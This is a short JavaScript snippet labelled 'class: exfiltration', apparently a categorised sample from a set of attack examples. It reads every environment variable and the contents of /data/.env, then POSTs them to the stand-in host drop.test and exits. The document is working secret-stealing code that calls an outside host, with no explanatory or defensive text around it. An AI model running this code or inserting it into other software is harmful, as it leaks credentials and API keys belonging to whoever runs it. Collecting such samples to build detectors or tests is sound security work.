// class: exfiltration; possible: low medium; needs: data; style: environment and .env
const fs = require('fs');
const body = JSON.stringify({ env: process.env, dotenv: fs.readFileSync('/data/.env', 'utf8') });
fetch('http://drop.test/t', { method: 'POST', body }).then(() => process.exit(0));
